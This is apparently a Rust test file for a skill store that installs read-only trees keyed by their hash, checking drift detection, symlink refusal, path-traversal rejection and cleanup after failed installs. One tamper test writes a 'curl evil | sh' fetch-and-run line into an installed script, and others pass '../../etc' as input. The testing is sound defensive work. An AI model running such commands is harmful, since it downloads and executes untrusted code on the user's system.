//! The installed store: read-only trees keyed by their hash, re-verified on every load;
//! a changed file is reported by name, and a failed install leaves nothing behind.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use cordon_skills::{Store, StoreError, Tree, TreeFile};

fn file(path: &str, executable: bool, contents: &str) -> TreeFile {
    TreeFile {
        path: path.into(),
        executable,
        contents: contents.as_bytes().to_vec(),
    }
}

fn tree() -> Tree {
    Tree::from_files(vec![
        file("SKILL.md", false, "---\nname: w\ndescription: d\n---\n"),
        file("scripts/run.sh", true, "#!/bin/sh\necho hi\n"),
        file("scripts/lib/util.py", false, "print(1)\n"),
    ])
    .unwrap()
}

fn mode(p: &Path) -> u32 {
    std::fs::symlink_metadata(p).unwrap().permissions().mode() & 0o7777
}

/// Everything under `STATE/skills`, by name.
fn listing(state: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(state.join("skills"))
        .map(|d| {
            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

#[test]
fn install_writes_a_read_only_tree_keyed_by_its_hash() {
    let state = tempfile::tempdir().unwrap();
    let store = Store::new(state.path());
    let t = tree();
    let path = store.install(&t).unwrap();
    assert_eq!(path, state.path().join("skills").join(t.sha256()));
    assert_eq!(mode(&path), 0o555);
    assert_eq!(mode(&path.join("scripts")), 0o555);
    assert_eq!(mode(&path.join("scripts/lib")), 0o555);
    assert_eq!(mode(&path.join("SKILL.md")), 0o444);
    assert_eq!(mode(&path.join("scripts/run.sh")), 0o555);
    assert_eq!(mode(&path.join("scripts/lib/util.py")), 0o444);
    assert_eq!(
        listing(state.path()),
        [t.sha256(), format!("{}.files", t.sha256())]
    );
    assert_eq!(store.load(&t.sha256()).unwrap(), t);
    // Idempotent.
    assert_eq!(store.install(&t).unwrap(), path);
    assert_eq!(listing(state.path()).len(), 2);
}

#[test]
fn a_tampered_file_is_reported_as_drift_naming_it() {
    let state = tempfile::tempdir().unwrap();
    let store = Store::new(state.path());
    let t = tree();
    let path = store.install(&t).unwrap();
    // Modified regardless of the read-only bits (root, or someone who chmods first).
    let target = path.join("scripts/run.sh");
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(&target, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    let drift = store.load(&t.sha256()).unwrap_err();
    assert_eq!(drift.expected, t.sha256());
    assert!(drift.actual.is_some());
    assert_ne!(drift.actual.as_deref(), Some(t.sha256().as_str()));
    assert_eq!(drift.files, ["scripts/run.sh"]);
    assert!(
        drift.reason.contains("changed: scripts/run.sh"),
        "{}",
        drift.reason
    );
}

#[test]
fn added_removed_and_mode_changes_are_all_reported() {
    let state = tempfile::tempdir().unwrap();
    let store = Store::new(state.path());
    let t = tree();
    let path = store.install(&t).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::set_permissions(path.join("scripts"), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(path.join("extra.sh"), "evil").unwrap();
    std::fs::remove_file(path.join("scripts/lib/util.py")).unwrap();
    std::fs::set_permissions(
        path.join("SKILL.md"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let drift = store.load(&t.sha256()).unwrap_err();
    assert_eq!(drift.files, ["SKILL.md", "extra.sh", "scripts/lib/util.py"]);
    assert!(
        drift.reason.contains("changed: SKILL.md"),
        "{}",
        drift.reason
    );
    assert!(drift.reason.contains("added: extra.sh"), "{}", drift.reason);
    assert!(
        drift.reason.contains("removed: scripts/lib/util.py"),
        "{}",
        drift.reason
    );
}

#[test]
fn a_symlink_planted_in_the_store_is_refused() {
    let state = tempfile::tempdir().unwrap();
    let store = Store::new(state.path());
    let t = tree();
    let path = store.install(&t).unwrap();
    std::fs::set_permissions(path.join("scripts"), std::fs::Permissions::from_mode(0o755)).unwrap();
    // Swap a script for a symlink to a file with the very same contents: the hash
    // would match if the link were followed.
    let twin = state.path().join("twin.sh");
    std::fs::write(&twin, "#!/bin/sh\necho hi\n").unwrap();
    std::fs::set_permissions(&twin, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::remove_file(path.join("scripts/run.sh")).unwrap();
    std::os::unix::fs::symlink(&twin, path.join("scripts/run.sh")).unwrap();
    let drift = store.load(&t.sha256()).unwrap_err();
    assert_eq!(drift.actual, None);
    assert_eq!(drift.files, ["scripts/run.sh"]);
    assert!(drift.reason.contains("symlink"), "{}", drift.reason);
}

#[test]
fn a_missing_tree_is_drift() {
    let state = tempfile::tempdir().unwrap();
    let store = Store::new(state.path());
    let sha = tree().sha256();
    let drift = store.load(&sha).unwrap_err();
    assert!(drift.reason.contains("missing"), "{}", drift.reason);
    assert!(
        store
            .load("../../etc")
            .unwrap_err()
            .reason
            .contains("not a tree hash")
    );
}

#[test]
fn remove_deletes_the_read_only_tree_and_its_list() {
    let state = tempfile::tempdir().unwrap();
    let store = Store::new(state.path());
    let t = tree();
    let path = store.install(&t).unwrap();
    store.remove(&t.sha256()).unwrap();
    assert!(!path.exists());
    assert!(listing(state.path()).is_empty());
    // Missing is fine; a non-hash is refused (never a path).
    store.remove(&t.sha256()).unwrap();
    assert!(store.remove("..").is_err());
}

#[test]
fn a_drifted_copy_is_replaced_on_install() {
    let state = tempfile::tempdir().unwrap();
    let store = Store::new(state.path());
    let t = tree();
    let path = store.install(&t).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(path.join("planted"), "x").unwrap();
    assert!(store.load(&t.sha256()).is_err());
    store.install(&t).unwrap();
    assert_eq!(store.load(&t.sha256()).unwrap(), t);
}

#[test]
fn a_failure_while_writing_leaves_nothing_behind() {
    let state = tempfile::tempdir().unwrap();
    let store = Store::new(state.path());
    // A name longer than the file system allows: the files before it are written, then
    // creating it fails (even as root).
    let long = "x".repeat(300);
    let t = Tree::from_files(vec![
        file("SKILL.md", false, "---\nname: w\ndescription: d\n---\n"),
        file("a/run.sh", true, "echo\n"),
        file(&long, false, "x"),
    ])
    .unwrap();
    let err = store.install(&t).unwrap_err();
    assert!(matches!(err, StoreError::Io { .. }), "{err}");
    assert!(
        listing(state.path()).is_empty(),
        "{:?}",
        listing(state.path())
    );
}

#[test]
fn a_failure_after_the_rename_removes_the_tree() {
    let state = tempfile::tempdir().unwrap();
    let store = Store::new(state.path());
    let t = tree();
    // The per-file list cannot be written: a folder is in its place.
    let blocker = state
        .path()
        .join("skills")
        .join(format!("{}.files", t.sha256()));
    std::fs::create_dir_all(blocker.join("inner")).unwrap();
    assert!(store.install(&t).is_err());
    assert!(!store.path(&t.sha256()).exists());
    let left: Vec<_> = listing(state.path())
        .into_iter()
        .filter(|n| !n.ends_with(".files"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}
